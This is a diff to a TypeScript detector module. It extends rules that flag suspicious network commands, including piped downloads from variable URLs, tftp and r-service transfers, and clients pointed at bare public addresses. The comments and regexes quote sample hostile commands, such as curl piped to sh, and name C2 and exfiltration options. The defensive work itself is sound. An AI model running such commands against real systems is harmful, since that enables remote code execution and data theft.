@@ -160,7 +160,10 @@ const untrustedPipeToShell: Rule = {
     const fetch = invocationsOf(s, ...DOWNLOADERS).find((inv) => inv.command.pipesTo);
     if (!runsPipe || !fetch) return undefined;
     const url = urlsIn(fetch.args.join(' ')).find((u) => isIpLiteral(u.host) || FILE_DROP_HOST.test(u.host) || (u.plainHttp && !isLoopback(u.host)));
-    return url ? { url: url.url.slice(0, 160) } : undefined;
+    if (url) return { url: url.url.slice(0, 160) };
+    // A script from a URL held in a variable (`curl -s "$STAGE_URL" | sh`): nobody reading the line can vet where it comes from.
+    const hidden = fetch.args.find((a) => /^["']?\$\{?\w+\}?["']?$/.test(a));
+    return hidden !== undefined ? { url: hidden } : undefined;
   },
 };
 
@@ -216,7 +219,7 @@ const anonymityNetwork: Rule = {
 };
 
 /**
- * `finger x@h`, `rlogin -l data h`, `rsh h cmd`, `rcp`: the cleartext r-services and finger, gone from modern hosts,
+ * `finger x@h`, `rlogin -l data h`, `rsh h cmd`, `rcp`, `tftp h`: the cleartext r-services, finger and TFTP, gone from modern hosts,
  * used as a channel for data (GTFOBins' finger and rlogin transfers).
  */
 const legacyRemoteClient: Rule = {
@@ -225,8 +228,9 @@ const legacyRemoteClient: Rule = {
   severity: 'medium',
   techniques: ['T1071', 'T1105', 'T1048'],
   match: (s): Evidence | undefined => {
-    const inv = invocationsOf(s, 'finger', 'rlogin', 'rsh', 'rexec', 'rcp').find((i) => i.args.some((a) => {
-      const host = i.program === 'finger' ? /@([\w.-]+)$/.exec(a)?.[1] : !a.startsWith('-') && /^[\w.-]+$/.test(a) ? a : remoteCopyHost(a);
+    const inv = invocationsOf(s, 'finger', 'rlogin', 'rsh', 'rexec', 'rcp', 'tftp').find((i) => i.args.some((a, k) => {
+      if (i.program === 'tftp' && /^-[a-zA-Z]*[lrmcR]$/.test(i.args[k - 1] ?? '')) return false;
+      const host = i.program === 'finger' ? /@([\w.-]+)$/.exec(a)?.[1] : !a.startsWith('-') && /^[\w.-]+$/.test(a) && /[a-z.]/i.test(a) ? a : remoteCopyHost(a);
       return host !== undefined && !isLoopback(host);
     }));
     return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
@@ -324,6 +328,24 @@ const remoteArchiveRead: Rule = {
   match: (s): Evidence | undefined => {
     const inv = invocationsOf(s, 'tar').find((i) => i.args.some((a) => /^--rsh-command\b|^--rmt-command\b/.test(a)) && i.args.some((a) => remoteCopyHost(a) !== undefined));
     return inv ? { tool: 'tar', archive: inv.args.find((a) => remoteCopyHost(a) !== undefined) ?? '' } : undefined;
+  },
+};
+
+/**
+ * `python client.py --server-ip 198.51.100.165 --server-port 9443`: a program pointed at a server, callback or relay by
+ * a bare internet address (pivoting and C2 clients take them so). Low: cloud hosts are sometimes given by address.
+ */
+const clientOfBareAddress: Rule = {
+  name: 'client-of-bare-address',
+  category: 'suspicious_network',
+  severity: 'low',
+  techniques: ['T1071', 'T1090'],
+  match: (s): Evidence | undefined => {
+    for (const inv of s.invocations) {
+      const option = inv.args.findIndex((a, i) => /^--?(?:server|c2|callback|lhost|rhost|remote|connect|relay|proxy|master|controller)[-_]?(?:ip|host|addr(?:ess)?)?$/i.test(inv.args[i - 1] ?? '') && isPublicIp(a.replace(/:\d+$/, '')));
+      if (option >= 0) return { program: inv.program, [inv.args[option - 1].replace(/^-+/, '')]: inv.args[option] };
+    }
+    return undefined;
   },
 };
 
@@ -493,5 +515,5 @@ export const SUSPICIOUS_NETWORK_RULES: readonly Rule[] = [
   offensiveTool, packetCapture, untrustedDownloadExecuted, legacyRemoteClient, fetchedFromPublicAddress, rawSocketToPublicAddress,
   bruteForceLogin, spoofedUserAgent,
   netcatCommandRelay, reverseTunnel, networkScan, shellRawSocket, trafficInterception, downloadIntoTemp, untrustedPipeToShell,
-  opensslTransport, whoisChannel, sshpassInline, anonymityNetwork, remoteAgentRegistered, sshToBareAddress, tunnelToolFetched, packageSourceAtAddress, hostsFileRedirect, remoteArchiveRead,
+  opensslTransport, whoisChannel, sshpassInline, anonymityNetwork, remoteAgentRegistered, sshToBareAddress, tunnelToolFetched, packageSourceAtAddress, hostsFileRedirect, remoteArchiveRead, clientOfBareAddress,
 ];
